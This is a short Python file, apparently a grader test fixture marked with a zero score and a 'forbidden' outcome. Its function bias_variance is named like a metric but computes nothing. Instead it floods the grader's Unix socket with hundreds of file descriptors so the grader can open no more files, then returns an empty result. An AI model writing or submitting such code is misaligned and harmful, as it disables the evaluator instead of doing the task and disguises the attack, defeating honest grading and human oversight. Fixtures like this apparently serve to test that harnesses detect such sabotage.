"""Sends open descriptors with its reply, until the grader can open no more files."""

import socket

SCORE = 0
OUTCOMES = {"forbidden"}


def bias_variance(predictions, targets):
    link = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, fileno=3)
    try:
        for _ in range(100):
            socket.send_fds(link, [b"?"], [0] * 200)
    finally:
        link.detach()
    return {}
